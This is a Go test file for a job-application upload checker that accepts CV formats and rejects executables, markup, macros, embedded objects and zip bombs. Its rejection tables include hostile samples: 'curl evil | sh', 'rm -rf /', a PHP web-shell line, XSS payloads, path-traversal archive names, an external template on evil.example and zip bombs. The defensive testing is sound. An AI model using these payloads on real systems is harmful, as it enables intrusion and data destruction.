package apply

import (
	"archive/zip"
	"bytes"
	"errors"
	"hash/crc32"
	"io"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/jobgate/jobgate/internal/apply/applytest"
)

// docxWith is the minimal docx with more entries.
func docxWith(extra ...applytest.Entry) []byte {
	return applytest.Zip(append(applytest.DocxParts([]byte(applytest.DocxDocument)), extra...)...)
}

// docxTypes is the minimal docx with its [Content_Types].xml replaced.
func docxTypes(types string) []byte {
	parts := applytest.DocxParts([]byte(applytest.DocxDocument))
	parts[0].Data = []byte(types)
	return applytest.Zip(parts...)
}

// odtWith is the minimal odt with more entries.
func odtWith(extra ...applytest.Entry) []byte {
	return applytest.Zip(append(applytest.ODTParts(applytest.ODTMimetype), extra...)...)
}

// zerosDocx is a docx whose word/document.xml is mib MiB of zeros, its
// declared size declared bytes.
func zerosDocx(mib int, declared uint64) []byte {
	zeros, crc := applytest.DeflatedZeros(mib)
	parts := applytest.DocxParts(nil)
	parts[2] = applytest.Entry{Name: "word/document.xml", Raw: zeros, CRC32: crc, Size: declared}
	return applytest.Zip(parts...)
}

// rawDocument is a docx whose word/document.xml is the deflated body,
// with the checksum and the declared size.
func rawDocument(body []byte, crc uint32, declared uint64) []byte {
	parts := applytest.DocxParts(nil)
	parts[2] = applytest.Entry{Name: "word/document.xml", Raw: applytest.Deflate(body), CRC32: crc, Size: declared}
	return applytest.Zip(parts...)
}

// denseEntries is the minimal docx and n images of 1 MiB of zeros each:
// every entry at the ratio floor, the whole far beyond the ratio.
func denseEntries(n int) []byte {
	zeros, crc := applytest.DeflatedZeros(1)
	var extra []applytest.Entry
	for i := range n {
		extra = append(extra, applytest.Entry{Name: "word/media/image" + strconv.Itoa(i) + ".png", Raw: zeros, CRC32: crc, Size: 1 << 20})
	}
	return docxWith(extra...)
}

func TestDeflatedZeros(t *testing.T) {
	data := zerosDocx(3, 3<<20)
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := entry(r.File, "word/document.xml").Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	if n, err := io.Copy(io.Discard, rc); n != 3<<20 || err != nil {
		t.Fatalf("the entry inflates to %d bytes, %v; want 3 MiB and its checksum", n, err)
	}
}

// largeText is n bytes of text that compresses like prose (well under
// 100:1).
func largeText(n int) []byte {
	var b bytes.Buffer
	x := uint32(1)
	for b.Len() < n {
		x = x*1664525 + 1013904223
		b.WriteString([]string{"søknad ", "erfaring ", "utvikler ", "Oslo ", "2024 ", "prosjekt ", "team "}[x>>29%7])
		b.WriteByte(byte('a' + x>>24%26))
	}
	return b.Bytes()
}

// pdf20 is a PDF 2.0 whose cross-reference is a stream (ISO 32000-2,
// 7.5.8), as modern writers make them: no trailer keyword.
const pdf20 = "%PDF-2.0\r\n%\xe2\xe3\xcf\xd3\r\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\r\n" +
	"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\r\n" +
	"3 0 obj<</Type /XRef/Size 4/W[1 2 1]/Root 1 0 R/Length 0>>stream\r\nendstream\r\nendobj\r\n" +
	"startxref\r\n96\r\n%%EOF\r\n"

// qpdfPDF is a PDF a real writer made: qpdf's linearized output with
// object streams and a cross-reference stream
// (qpdf --object-streams=generate --linearize of applytest.PDF(nil)).
func qpdfPDF(t testing.TB) []byte {
	data, err := os.ReadFile("testdata/qpdf-linearized-objstm.pdf")
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestDetectTypeAllowed(t *testing.T) {
	tests := []struct {
		name, ct, ext string
		data          []byte
	}{
		{"pdf", ctPDF, "pdf", applytest.PDF([]byte("BT (Åse) Tj ET"))},
		{"pdf of binary streams", ctPDF, "pdf", applytest.PDF(bytes.Repeat([]byte{0, 0xff, '\r', '\n', 0x7f, 'E', 'L', 'F'}, 1000))},
		{"pdf 2.0 with a cross-reference stream", ctPDF, "pdf", []byte(pdf20)},
		{"pdf of qpdf, linearized, with object streams", ctPDF, "pdf", qpdfPDF(t)},
		{"pdf with trailing white space", ctPDF, "pdf", append(applytest.PDF(nil), "\r\n\r\n   \n"...)},
		{"doc", ctDOC, "doc", applytest.WordDoc()},
		{"doc with an empty object pool", ctDOC, "doc", applytest.CompoundFile(append(applytest.WordDocEntries(), applytest.CFBEntry{Name: "ObjectPool", Parent: -1, Storage: true})...)},
		{"docx", ctDOCX, "docx", applytest.Docx()},
		{"docx with images, styles, properties and custom XML", ctDOCX, "docx", docxWith(
			applytest.Entry{Name: "word/media/image1.png", Data: []byte("\x89PNG\r\n\x1a\n")},
			applytest.Entry{Name: "word/styles.xml", Data: []byte("<w:styles/>"), Method: zip.Deflate},
			applytest.Entry{Name: "docProps/app.xml", Data: []byte("<Properties/>"), Method: zip.Deflate},
			applytest.Entry{Name: "docProps/thumbnail.jpeg", Data: []byte("\xff\xd8\xff")},
			applytest.Entry{Name: "customXml/item1.xml", Data: []byte("<b:Sources/>")},
			applytest.Entry{Name: "word/printerSettings/printerSettings1.bin", Data: []byte{1, 2}},
			applytest.Entry{Name: "docMetadata/LabelInfo.xml", Data: []byte("<clbl:labelList/>")},
			applytest.Entry{Name: "_xmlsignatures/sig1.xml", Data: []byte("<Signature/>")})},
		{"docx of 3 MiB prose", ctDOCX, "docx", applytest.Zip(applytest.DocxParts(largeText(3 << 20))...)},
		{"docx with a directory entry", ctDOCX, "docx", docxWith(applytest.Entry{Name: "word/media/"})},
		{"docx with a hyperlink", ctDOCX, "docx", docxWith(applytest.Entry{Name: "word/_rels/header1.xml.rels", Data: []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/kari" TargetMode="External"/></Relationships>`)})},
		{"odt", ctODT, "odt", applytest.ODT()},
		{"odt with pictures, thumbnail and settings", ctODT, "odt", odtWith(
			applytest.Entry{Name: "Pictures/10000000000000.png", Data: []byte("\x89PNG\r\n\x1a\n")},
			applytest.Entry{Name: "Thumbnails/thumbnail.png", Data: []byte("\x89PNG\r\n\x1a\n")},
			applytest.Entry{Name: "Configurations2/accelerator/"},
			applytest.Entry{Name: "settings.xml", Data: []byte("<office:document-settings/>")},
			applytest.Entry{Name: "manifest.rdf", Data: []byte("<rdf:RDF/>")})},
		{"rtf", ctRTF, "rtf", []byte(`{\rtf1\ansi\deff0 {\fonttbl {\f0 Times;}} \f0 S\u248?knad}`)},
		{"rtf that writes about objects", ctRTF, "rtf", []byte(`{\rtf1\ansi C:\\objects\\cv}`)},
		{"txt", ctTXT, "txt", []byte("Åse Bjørnstad\r\n\tUtvikler\n\fSide 2\n")},
		{"txt with a BOM", ctTXT, "txt", []byte("\uFEFFCV\n")},
		{"txt that mentions html", ctTXT, "txt", []byte("I write <html> for a living")},
		{"txt that is xml", ctTXT, "txt", []byte(`<?xml version="1.0"?><cv/>`)},
		{"txt that reads as csv", ctTXT, "txt", []byte("Oslo, Norge\nBergen, Norge\nTromsø, Norge\n")},
		{"txt that is json", ctTXT, "txt", []byte(`{"name": "Åse", "skills": ["Go"]}`)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ct, ext, err := DetectType(tt.data)
			if err != nil || ct != tt.ct || ext != tt.ext {
				t.Fatalf("DetectType = %q, %q, %v; want %q, %q", ct, ext, err, tt.ct, tt.ext)
			}
		})
	}
}

// refused is a file DetectType must refuse, for the reason.
type refused struct {
	name   string
	data   []byte
	reason Reason
	why    string // in the error, when set
}

func checkRefused(t *testing.T, tests []refused) {
	t.Helper()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ct, ext, err := DetectType(tt.data)
			var fe *FileError
			if !errors.As(err, &fe) || fe.Reason != tt.reason || ct != "" || ext != "" || !strings.Contains(err.Error(), tt.why) {
				t.Fatalf("DetectType = %q, %q, %v; want %s (%s)", ct, ext, err, tt.reason, tt.why)
			}
			want := ErrFileType
			if tt.reason == ReasonZipBomb {
				want = ErrZipBomb
			}
			if !errors.Is(err, want) || !strings.Contains(err.Error(), "("+string(tt.reason)+")") {
				t.Fatalf("%v: does not wrap %v or name its reason", err, want)
			}
		})
	}
}

func TestDetectTypeEmpty(t *testing.T) {
	if _, _, err := DetectType(nil); !errors.Is(err, ErrEmptyFile) {
		t.Fatalf("DetectType(nil) = %v", err)
	}
}

// TestDetectTypeRefusedKinds: whatever it is called, what is not a
// document is refused (break 6: an SVG sent as text, HTML as .txt).
func TestDetectTypeRefusedKinds(t *testing.T) {
	checkRefused(t, []refused{
		{"ELF executable", []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00"), ReasonType, ""},
		{"PE executable", []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode."), ReasonType, ""},
		{"self-extracting docx", append([]byte("MZ\x90\x00\x03\x00\x00\x00"), applytest.Docx()...), ReasonType, ""},
		{"PNG", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), ReasonType, ""},
		{"JPEG", []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00"), ReasonType, ""},
		{"GIF", []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"), ReasonType, ""},
		{"html doctype", []byte("<!DOCTYPE html><html><body>CV</body></html>"), ReasonMarkup, ""},
		{"html after space and BOM", []byte("\uFEFF \n\t<HTML lang=nb>"), ReasonMarkup, ""},
		{"html as a paragraph", []byte("<p>Kari Nordmann</p><img src=x onerror=alert(1)>"), ReasonMarkup, ""},
		{"script", []byte("<ScRiPt>alert(1)</script>"), ReasonMarkup, ""},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), ReasonMarkup, ""},
		{"svg with an XML declaration", []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), ReasonMarkup, ""},
		{"svg without a namespace", []byte(`<svg onload="alert(1)">`), ReasonMarkup, ""},
		{"xhtml", []byte(`<?xml version="1.0"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`), ReasonMarkup, ""},
		{"shell script", []byte("#!/bin/sh\ncurl evil | sh\n"), ReasonMarkup, ""},
		{"php", []byte("<?php system($_GET['c']); ?>"), ReasonMarkup, ""},
		{"UTF-16LE without BOM", []byte("C\x00V\x00 \x00\xc5\x00s\x00e\x00"), ReasonType, ""},
		{"UTF-16LE with BOM", []byte("\xff\xfeC\x00V\x00"), ReasonText, ""},
		{"Latin-1", []byte("S\xf8knad fra \xc5se"), ReasonText, "UTF-8"},
		{"invalid UTF-8 after 4 KiB of text", append(bytes.Repeat([]byte("CV "), 2000), 0xff, 0xfe), ReasonText, "UTF-8"},
		{"text with NUL", []byte("CV\x00"), ReasonType, ""},
		{"text with NUL after 4 KiB", append(bytes.Repeat([]byte("CV "), 2000), 0), ReasonText, "NUL"},
		{"text with an escape", []byte("CV \x1b[31m"), ReasonText, "control"},
		{"text with a C1 control", []byte("CV \u0085"), ReasonText, "control"},
		{"excel compound file", applytest.CompoundFile(applytest.CFBEntry{Name: "Workbook", Parent: -1, Data: make([]byte, 4096)}), ReasonType, "not a Word document"},
		{"plain zip", applytest.Zip(applytest.Entry{Name: "cv.pdf", Data: applytest.PDF(nil)}), ReasonType, "neither docx nor odt"},
		{"rtf without its version", []byte(`{\rtf \ansi}`), ReasonType, "rtf1"},
	})
}

// TestDetectTypeRefusedPDF: a PDF is structurally one, not a prefix
// (break 6: an executable behind %PDF-).
func TestDetectTypeRefusedPDF(t *testing.T) {
	good := applytest.PDF([]byte("CV"))
	elf := []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00")
	checkRefused(t, []refused{
		{"ELF behind %PDF-", append([]byte("%PDF-1.4\n"), elf...), ReasonPDF, "no indirect object"},
		{"ELF behind %PDF- with the PDF's tail", append(append([]byte("%PDF-1.7\n"), elf...), good[bytes.Index(good, []byte("xref")):]...), ReasonPDF, "no indirect object"},
		{"PE behind %PDF- and a comment", []byte("%PDF-1.4\n%\xe2\xe3\xcf\xd3\nMZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode."), ReasonPDF, "no indirect object"},
		{"zip behind %PDF-", append([]byte("%PDF-1.4\n"), applytest.Docx()...), ReasonPDF, "no indirect object"},
		{"script behind %PDF-", []byte("%PDF-1.4\n#!/bin/sh\nrm -rf /\n"), ReasonPDF, "no indirect object"},
		{"%PDF- after junk", append([]byte("\x7fELF junk "), good...), ReasonPDF, "header"},
		{"header and %%EOF only", []byte("%PDF-1.4\n%%EOF\n"), ReasonPDF, "no indirect object"},
		{"no version", []byte("%PDF-\n1 0 obj<<>>endobj\n"), ReasonPDF, "header"},
		{"version 1.9", bytes.Replace(good, []byte("%PDF-1.4"), []byte("%PDF-1.9"), 1), ReasonPDF, "header"},
		{"an object without endobj", []byte("%PDF-1.4\n1 0 obj\n<<>>\ntrailer<<>>\nstartxref\n0\n%%EOF\n"), ReasonPDF, "endobj"},
		{"objects without a trailer", bytes.Replace(good, []byte("trailer"), []byte("tr@iler"), 1), ReasonPDF, "trailer"},
		{"no startxref", bytes.Replace(good, []byte("startxref"), []byte("startx@ef"), 1), ReasonPDF, "startxref"},
		{"startxref beyond the file", bytes.Replace(good, []byte("startxref\n"), []byte("startxref\n99999999"), 1), ReasonPDF, "startxref"},
		{"no %%EOF", good[:len(good)-6], ReasonPDF, "%%EOF"},
		{"%%EOF followed by an executable", append(append([]byte{}, good...), bytes.Repeat(elf, 100)...), ReasonPDF, "%%EOF"},
	})
}

// TestDetectTypeRefusedDOC: a .doc is a Word document without macros,
// read from the compound file's directory (break 6: a .doc with macros,
// a renamed VBA project).
func TestDetectTypeRefusedDOC(t *testing.T) {
	doc := applytest.WordDocEntries()
	withMacros := append(append([]applytest.CFBEntry{}, doc...),
		applytest.CFBEntry{Name: "Macros", Parent: -1, Storage: true},
		applytest.CFBEntry{Name: "VBA", Parent: 3, Storage: true},
		applytest.CFBEntry{Name: "_VBA_PROJECT", Parent: 4, Data: make([]byte, 4096)},
		applytest.CFBEntry{Name: "PROJECT", Parent: 3, Data: make([]byte, 4096)})
	vbaProject := []applytest.CFBEntry{ // a docm's word/vbaProject.bin
		{Name: "VBA", Parent: -1, Storage: true},
		{Name: "_VBA_PROJECT", Parent: 0, Data: make([]byte, 4096)},
		{Name: "dir", Parent: 0, Data: make([]byte, 4096)},
		{Name: "PROJECT", Parent: -1, Data: append(utf16le("WordDocument"), make([]byte, 4096)...)}, // fools a byte search
		{Name: "PROJECTwm", Parent: -1, Data: make([]byte, 4096)},
	}
	excel := []applytest.CFBEntry{{Name: "Workbook", Parent: -1, Data: append(utf16le("WordDocument"), make([]byte, 4096)...)}}
	withObject := append(append([]applytest.CFBEntry{}, doc...),
		applytest.CFBEntry{Name: "ObjectPool", Parent: -1, Storage: true},
		applytest.CFBEntry{Name: "_1234567890", Parent: 3, Storage: true},
		applytest.CFBEntry{Name: "\x01Ole10Native", Parent: 4, Data: make([]byte, 4096)})
	encrypted := append([]applytest.CFBEntry{}, doc...)
	encrypted[0].Data = applytest.WordFIB(0x0100)
	notWord := append([]applytest.CFBEntry{}, doc...)
	notWord[0].Data = make([]byte, 4096)
	nested := []applytest.CFBEntry{{Name: "Sub", Parent: -1, Storage: true}, {Name: "WordDocument", Parent: 0, Data: applytest.WordFIB(0)}}
	word := applytest.WordDoc()
	checkRefused(t, []refused{
		{"a .doc with a Macros storage", applytest.CompoundFile(withMacros...), ReasonMacros, ""},
		{"a renamed VBA project", applytest.CompoundFile(vbaProject...), ReasonMacros, ""},
		{"a spreadsheet that names WordDocument in a stream", applytest.CompoundFile(excel...), ReasonType, "not a Word document"},
		{"a .doc with an embedded object", applytest.CompoundFile(withObject...), ReasonEmbedded, ""},
		{"an encrypted .doc", applytest.CompoundFile(encrypted...), ReasonEncrypted, ""},
		{"a WordDocument stream that is not Word's", applytest.CompoundFile(notWord...), ReasonType, "not Word's"},
		{"a WordDocument stream in a storage", applytest.CompoundFile(nested...), ReasonType, "not a Word document"},
		{"the name WordDocument in a corrupt compound file", append(append(bytes.Clone(word[:8]), make([]byte, 1024)...), utf16le("WordDocument")...), ReasonContainer, "corrupt"},
		{"a truncated .doc", word[:700], ReasonContainer, "corrupt"},
	})
}

// utf16le encodes an ASCII string as UTF-16LE.
func utf16le(s string) []byte {
	b := make([]byte, 0, 2*len(s))
	for i := range len(s) {
		b = append(b, s[i], 0)
	}
	return b
}

// TestDetectTypeRefusedContainers: docx and odt hold only their parts,
// no macros, no embedded objects, no encryption, no odd names (break 6:
// the docx with a macro project, a docm).
func TestDetectTypeRefusedContainers(t *testing.T) {
	docx := applytest.Docx()
	docm := strings.Replace(applytest.DocxContentTypes, docxMain, "application/vnd.ms-word.document.macroEnabled.main+xml", 1)
	checkRefused(t, []refused{
		{"docx with vbaProject.bin", docxWith(applytest.Entry{Name: "word/vbaProject.bin", Data: applytest.CompoundFile()}), ReasonMacros, ""},
		{"docx with vbaData.xml", docxWith(applytest.Entry{Name: "word/vbaData.xml", Data: []byte("<wne:vbaSuppData/>")}), ReasonMacros, ""},
		{"docm content type", docxTypes(docm), ReasonMacros, ""},
		{"a VBA project under another name", docxTypes(strings.Replace(applytest.DocxContentTypes, "</Types>", `<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/></Types>`, 1)), ReasonMacros, ""},
		{"dotx main part", docxTypes(strings.Replace(applytest.DocxContentTypes, "document.main+xml", "template.main+xml", 1)), ReasonType, "main part"},
		{"content types without the main part", docxTypes(`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`), ReasonType, "main part"},
		{"content types that are not XML", docxTypes(`<Types`), ReasonContainer, "content types"},
		{"docx with an embedded object", docxWith(applytest.Entry{Name: "word/embeddings/oleObject1.bin", Data: applytest.WordDoc()}), ReasonEmbedded, ""},
		{"docx with an ActiveX control", docxWith(applytest.Entry{Name: "word/activeX/activeX1.xml", Data: []byte("<ax/>")}), ReasonEmbedded, ""},
		{"docx with an external template", docxWith(applytest.Entry{Name: "word/_rels/settings.xml.rels", Data: []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`)}), ReasonExternal, ""},
		{"docx with an external image on a share", docxWith(applytest.Entry{Name: "word/_rels/footer1.xml.rels", Data: []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/share/x.png" TargetMode="External"/></Relationships>`)}), ReasonExternal, ""},
		{"relationships that are not XML", docxWith(applytest.Entry{Name: "word/_rels/styles.xml.rels", Data: []byte(`<Relationships`)}), ReasonContainer, "relationships"},
		{"docx with an executable beside it", docxWith(applytest.Entry{Name: "setup.exe", Data: []byte("MZ")}), ReasonPart, ""},
		{"docx with a path traversal", docxWith(applytest.Entry{Name: "word/../../evil.sh", Data: []byte("#!")}), ReasonContainer, "relative path"},
		{"docx with an absolute path", docxWith(applytest.Entry{Name: "/etc/cron.d/x", Data: []byte("*")}), ReasonContainer, "relative path"},
		{"docx with a backslash path", docxWith(applytest.Entry{Name: `word\..\..\evil`, Data: []byte("x")}), ReasonContainer, "relative path"},
		{"docx with a drive letter", docxWith(applytest.Entry{Name: "C:/evil", Data: []byte("x")}), ReasonContainer, "relative path"},
		{"docx with a part twice", docxWith(applytest.Entry{Name: "WORD/document.xml", Data: []byte("<x/>")}), ReasonContainer, "same name"},
		{"docx with an encrypted entry", docxWith(applytest.Entry{Name: "word/styles.xml", Data: []byte("<w:styles/>"), Flags: 1}), ReasonEncrypted, ""},
		{"docx without document.xml", applytest.Zip(applytest.DocxParts(nil)[:2]...), ReasonType, "not a Word document"},
		{"docx without relationships", applytest.Zip(append(applytest.DocxParts([]byte(applytest.DocxDocument))[:1], applytest.DocxParts([]byte(applytest.DocxDocument))[2:]...)...), ReasonContainer, "relationships"},
		{"xlsx", applytest.Zip(applytest.Entry{Name: "[Content_Types].xml", Data: []byte("<Types/>")}, applytest.Entry{Name: "xl/workbook.xml", Data: []byte("<workbook/>")}), ReasonType, ""},
		{"odt with Basic macros", odtWith(applytest.Entry{Name: "Basic/Standard/Module1.xml", Data: []byte("<script:module/>")}), ReasonMacros, ""},
		{"odt with scripts", odtWith(applytest.Entry{Name: "Scripts/python/evil.py", Data: []byte("import os")}), ReasonMacros, ""},
		{"odt with an embedded object", odtWith(applytest.Entry{Name: "Object 1/content.xml", Data: []byte("<x/>")}), ReasonEmbedded, ""},
		{"odt with an unexpected part", odtWith(applytest.Entry{Name: "run.bat", Data: []byte("del")}), ReasonPart, ""},
		{"encrypted odt", encryptedODT(), ReasonEncrypted, ""},
		{"ods", applytest.Zip(applytest.ODTParts("application/vnd.oasis.opendocument.spreadsheet")...), ReasonType, ""},
		{"odt whose mimetype is not first", applytest.Zip(append(applytest.ODTParts(applytest.ODTMimetype)[1:], applytest.ODTParts(applytest.ODTMimetype)[0])...), ReasonType, ""},
		{"odt whose mimetype is compressed", applytest.Zip(append([]applytest.Entry{{Name: "mimetype", Data: []byte(applytest.ODTMimetype), Method: zip.Deflate}}, applytest.ODTParts(applytest.ODTMimetype)[1:]...)...), ReasonType, ""},
		{"odt without content", applytest.Zip(applytest.ODTParts(applytest.ODTMimetype)[:1]...), ReasonContainer, "content or manifest"},
		{"corrupt zip", []byte("PK\x03\x04\x14\x00\x00\x00garbage"), ReasonContainer, "corrupt"},
		{"truncated docx", docx[:len(docx)/2], ReasonContainer, "corrupt"},
		{"declared size larger than the entry", rawDocument([]byte(applytest.DocxDocument), crc32.ChecksumIEEE([]byte(applytest.DocxDocument)), 100<<10), ReasonContainer, "corrupt"},
		{"wrong checksum", rawDocument([]byte(applytest.DocxDocument), 1, uint64(len(applytest.DocxDocument))), ReasonContainer, "corrupt"},
	})
}

// encryptedODT is an odt whose manifest lists content.xml as encrypted.
func encryptedODT() []byte {
	parts := applytest.ODTParts(applytest.ODTMimetype)
	parts[4].Data = []byte(`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"><manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry></manifest:manifest>`)
	return applytest.Zip(parts...)
}

// TestDetectTypeZipBombs: a docx or odt may not expand beyond the limits,
// declared or real (break 6: a docx whose extra entry inflates to 314 MB).
func TestDetectTypeZipBombs(t *testing.T) {
	many := applytest.DocxParts([]byte(applytest.DocxDocument))
	for i := range maxZipEntries {
		many = append(many, applytest.Entry{Name: "word/media/" + strconv.Itoa(i) + ".xml"})
	}
	zeros, crc := applytest.DeflatedZeros(300)
	checkRefused(t, []refused{
		{"an extra entry that inflates to 314 MB behind a lying header", applytest.DocxWithHiddenZeros(300), ReasonZipBomb, "beyond its declared size"},
		{"an extra entry in an odt behind a lying header", odtWith(applytest.Entry{Name: "Pictures/a.png", Raw: zeros, CRC32: crc, Size: 4096}), ReasonZipBomb, "beyond its declared size"},
		{"the main part behind a lying header", zerosDocx(200, 1<<20), ReasonZipBomb, "beyond its declared size"},
		{"200 MiB of zeros", zerosDocx(200, 200<<20), ReasonZipBomb, "an entry larger than"},
		{"50 MiB of zeros (1000:1)", zerosDocx(50, 50<<20), ReasonZipBomb, "compressed more than 100:1"},
		{"60 entries of 1 MiB of zeros", denseEntries(60), ReasonZipBomb, "together"},
		{"entries adding up beyond 64 MiB", applytest.Zip(append(applytest.DocxParts([]byte(applytest.DocxDocument)),
			applytest.Entry{Name: "word/media/a.png", Raw: make([]byte, 1<<20), Size: 40 << 20},
			applytest.Entry{Name: "word/media/b.png", Raw: make([]byte, 1<<20), Size: 40 << 20})...), ReasonZipBomb, "uncompressed"},
		{"too many entries", applytest.Zip(many...), ReasonZipBomb, "more than 1000 entries"},
	})
}

func TestExtensionsAreClean(t *testing.T) {
	for ct, ext := range extensions {
		if cleanExt(ext) != ext {
			t.Errorf("the extension of %s is not clean", ct)
		}
	}
}

// FuzzDetectType: whatever the bytes, DetectType answers an allowed type
// or a classified refusal, never panics, and stays fast (the seeds are
// small so that the mutations are).
func FuzzDetectType(f *testing.F) {
	for _, seed := range [][]byte{
		applytest.PDF([]byte("CV")), []byte(pdf20), qpdfPDF(f), []byte("%PDF-1.4\n%%EOF\n"), applytest.WordDoc(),
		applytest.CompoundFile(applytest.CFBEntry{Name: "Macros", Parent: -1, Storage: true}, applytest.CFBEntry{Name: "WordDocument", Parent: -1, Data: applytest.WordFIB(0)}),
		[]byte(`{\rtf1 {\object\objemb}}`), []byte(`{\rtf1}`), []byte("CV\n"), []byte("Oslo, Norge\nBergen, Norge\n"),
		applytest.Docx(), applytest.ODT(), encryptedODT(), docxWith(applytest.Entry{Name: "word/vbaProject.bin", Data: []byte{1}}),
		docxWith(applytest.Entry{Name: "../x", Data: []byte{1}}), applytest.DocxWithHiddenZeros(2),
		[]byte("<html>"), []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), []byte("\x7fELF"), {},
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		ct, ext, err := DetectType(data)
		if err != nil {
			var fe *FileError
			if ct != "" || ext != "" {
				t.Fatalf("a type with the error %v", err)
			}
			if !errors.As(err, &fe) && !errors.Is(err, ErrEmptyFile) {
				t.Fatalf("an unclassified error: %v", err)
			}
			return
		}
		if want, ok := extensions[ct]; !ok || want != ext {
			t.Fatalf("DetectType = %q, %q: not an allowed type", ct, ext)
		}
	})
}

// randomBytes is n bytes that do not compress, like an image's.
func randomBytes(n int) []byte {
	b := make([]byte, n)
	x := uint32(7)
	for i := range b {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b[i] = byte(x)
	}
	return b
}

// BenchmarkDetectType measures the file check on a CV of some 200 KB: a
// PDF (a binary stream), and a docx of prose and a photo.
func BenchmarkDetectType(b *testing.B) {
	parts := applytest.DocxParts(largeText(400 << 10))
	docx := applytest.Zip(append(parts, applytest.Entry{Name: "word/media/image1.jpeg", Data: randomBytes(120 << 10)})...)
	for _, bb := range []struct {
		name string
		data []byte
	}{{"pdf", applytest.PDF(randomBytes(200 << 10))}, {"docx", docx}} {
		b.Run(bb.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(bb.data)))
			for b.Loop() {
				if _, _, err := DetectType(bb.data); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
